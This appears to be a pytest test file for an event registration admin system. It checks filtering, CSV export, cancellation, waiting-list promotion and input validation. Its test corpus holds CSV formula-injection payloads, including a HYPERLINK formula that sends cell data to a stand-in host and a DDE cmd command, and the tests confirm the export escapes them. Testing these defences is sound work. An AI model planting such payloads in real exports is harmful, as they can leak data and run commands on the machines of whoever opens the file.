"""Registrations management: filters, search, edit, cancel, promote by hand, CSV export."""

import csv
import io
import re

import pytest
from sqlalchemy import select

from eventsapp.extensions import db
from eventsapp.models import AuditEntry, Event, Registration
from eventsapp.registration.services import register
from eventsapp.registration.validation import clean_registration
from eventsapp.spreadsheet import escape_cell

CSV_CORPUS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "+1+1",
              "-1+2", "@SUM(1,1)", " =1+1", "-5"]


@pytest.fixture
def event_id(app, make_event):
    event_id = make_event(slug="m", capacity=2)
    people = [("Ana", "Ruiz", "AUS", "delegate"), ("李", "小龍", "PRC", "speaker"),
              ("Somchai", "Jaidee", "THA", "delegate")]
    with app.app_context():
        ev = db.session.get(Event, event_id)
        for i, (given, family, economy, category) in enumerate(people):
            register(ev, clean_registration({
                "given_name": given, "family_name": family, "email": f"p{i}@example.org",
                "economy": economy, "category": category}), notify=False, trusted=True)
    return event_id


def row_links(html: str) -> list[str]:
    """The registration pages the list links to, in its order."""
    return re.findall(r'href="/admin/events/m/registrations/(\d+)"', html)


def test_filters_and_search(admin_client, event_id):
    assert len(row_links(admin_client.get(
        "/admin/events/m/registrations?status=waitlisted").text)) == 1
    page = admin_client.get("/admin/events/m/registrations?q=ruiz").text
    assert "Ana Ruiz" in page and "Somchai" not in page
    page = admin_client.get("/admin/events/m/registrations?economy=PRC&category=speaker").text
    assert "李 小龍" in page and "Ana Ruiz" not in page
    assert "Waiting list (1)" in admin_client.get("/admin/events/m/registrations").text


def test_unknown_filter_value_is_422_not_500(admin_client, event_id):
    assert admin_client.get("/admin/events/m/registrations?status=bogus").status_code == 422


def test_csv_has_bom_and_non_latin_names(admin_client, event_id):
    response = admin_client.get("/admin/events/m/registrations.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == \
        'attachment; filename="registrations-m.csv"'
    assert response.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0][:5] == ["Id", "Status", "Waiting list position", "Given name", "Family name"]
    assert [r[3] for r in rows[1:]] == ["Ana", "李", "Somchai"]
    assert [r[2] for r in rows[1:]] == ["", "", "1"]


@pytest.mark.parametrize("value", CSV_CORPUS)
def test_formula_cells_are_escaped(value):
    assert escape_cell(value) == "'" + value


def test_plain_text_cells_are_unchanged():
    assert [escape_cell(v) for v in ("a,b", "line1\nline2", '"quoted"', "Ana")] == [
        "a,b", "line1\nline2", '"quoted"', "Ana"]


def test_csv_escapes_formula_names(app, admin_client, event_id):
    with app.app_context():
        reg = db.session.scalar(select(Registration).where(Registration.given_name == "Ana"))
        reg.organisation = "=cmd|' /C calc'!A0"
        db.session.commit()
    rows = list(csv.reader(io.StringIO(
        admin_client.get("/admin/events/m/registrations.csv").data.decode("utf-8-sig"))))
    assert rows[1][9] == "'=cmd|' /C calc'!A0"


@pytest.mark.parametrize("separator", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
def test_no_cell_starts_a_formula_whatever_separator_the_csv_is_opened_with(
        app, admin_client, event_id, separator):
    """Issue 20: the export is written with commas, but a spreadsheet may split it at `;`
    or TAB; each piece that could start a formula carries its own apostrophe."""
    hostile = {"organisation": "Ann;=HYPERLINK(A1);x", "job_title": "Chair\t+1+1",
               "dietary": "none,@SUM(1,1)", "accessibility": "ok;  -2+3"}
    with app.app_context():
        reg = db.session.scalar(select(Registration).where(Registration.given_name == "Ana"))
        for field, value in hostile.items():
            setattr(reg, field, value)
        db.session.commit()
    text = admin_client.get("/admin/events/m/registrations.csv").data.decode("utf-8-sig")
    # A spreadsheet that takes `separator` for the list separator, quotes as CSV quotes.
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=separator)
             for cell in row]
    formula = [c for c in cells if c.lstrip(" \t").startswith(("=", "+", "-", "@"))]
    assert formula == []
    assert any("HYPERLINK" in c for c in cells)  # the text is still there, as text


def test_escaping_neutralises_each_separated_piece():
    assert escape_cell("Ann;=HYPERLINK(A1);x") == "Ann;'=HYPERLINK(A1);x"
    assert escape_cell("a,+1\t-2") == "a,'+1\t'-2"
    assert escape_cell("=1;=2") == "'=1;'=2"
    assert escape_cell("Smith, Jane; Lee\tAnn") == "Smith, Jane; Lee\tAnn"


def _reg_id(app, given):
    with app.app_context():
        return db.session.scalar(select(Registration.id).where(Registration.given_name == given))


def test_cancel_promotes_head_of_waiting_list(app, admin_client, event_id):
    ana = _reg_id(app, "Ana")
    response = admin_client.post(f"/admin/events/m/registrations/{ana}/cancel",
                                 data={"cancel-reason": "Asked by phone"})
    assert response.status_code == 303
    with app.app_context():
        statuses = dict(db.session.execute(
            select(Registration.given_name, Registration.status)).all())
        assert statuses == {"Ana": "cancelled", "李": "confirmed", "Somchai": "confirmed"}


def test_cancel_needs_a_reason(app, admin_client, event_id):
    ana = _reg_id(app, "Ana")
    assert admin_client.post(f"/admin/events/m/registrations/{ana}/cancel",
                             data={"cancel-reason": ""}).status_code == 422


def test_promote_over_capacity_by_hand_with_reason(app, admin_client, event_id):
    somchai = _reg_id(app, "Somchai")
    refused = admin_client.post(f"/admin/events/m/registrations/{somchai}/promote",
                                data={"promote-reason": "Minister"}, follow_redirects=True)
    assert "The event is full." in refused.text
    admin_client.post(f"/admin/events/m/registrations/{somchai}/promote",
                      data={"promote-reason": "Minister", "promote-over_capacity": "y"})
    with app.app_context():
        assert db.session.get(Registration, somchai).status == "confirmed"
        entry = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "promoted"))
        assert entry.details["reason"] == "Minister"


def test_edit_registration(app, admin_client, event_id):
    ana = _reg_id(app, "Ana")
    data = {"given_name": "Ana María", "family_name": "Ruiz", "email": "p0@example.org",
            "economy": "AUS", "sector": "government", "category": "head_of_delegation"}
    assert admin_client.post(f"/admin/events/m/registrations/{ana}", data=data).status_code == 303
    with app.app_context():
        reg = db.session.get(Registration, ana)
        assert (reg.given_name, reg.category) == ("Ana María", "head_of_delegation")


def test_edit_registration_refuses_control_characters(app, admin_client, event_id):
    ana = _reg_id(app, "Ana")
    data = {"given_name": "Ana\x1b[31m", "family_name": "Ruiz", "email": "p0@example.org",
            "economy": "AUS", "sector": "government", "category": "delegate"}
    response = admin_client.post(f"/admin/events/m/registrations/{ana}", data=data)
    assert response.status_code == 422
    assert "must not contain line breaks or control characters" in response.text


def test_over_capacity_is_shown_and_holds_newcomers_and_the_list_back(app, admin_client,
                                                                       event_id):
    """R7: confirmed beyond capacity by hand; nobody is demoted, the page says by how many,
    and until fewer than the capacity are confirmed nobody else gets a place."""
    from eventsapp.registration import services

    with app.app_context():
        waiting = db.session.scalar(select(Registration).where(
            Registration.event_id == event_id, Registration.status == "waitlisted"))
        services.promote_registration(waiting, user=None, reason="minister's delegate",
                                      over_capacity=True)
    assert "Over capacity by 1." in admin_client.get("/admin/events/m/registrations").text
    with app.app_context():
        ev = db.session.get(Event, event_id)
        newcomer = register(ev, clean_registration({
            "given_name": "New", "family_name": "Comer", "email": "new@example.org"}),
            notify=False).registration
        assert newcomer.status == "waitlisted"
        first = db.session.scalar(select(Registration).where(
            Registration.event_id == event_id, Registration.status == "confirmed")
            .order_by(Registration.id))
        assert services.cancel_registration(first, notify=False) == []  # 2 left for 2 places
        assert db.session.get(Registration, newcomer.id).status == "waitlisted"
    page = admin_client.get("/admin/events/m/registrations").text
    assert "Over capacity" not in page
    assert "2 confirmed of 2 places · 1 on the waiting list" in page
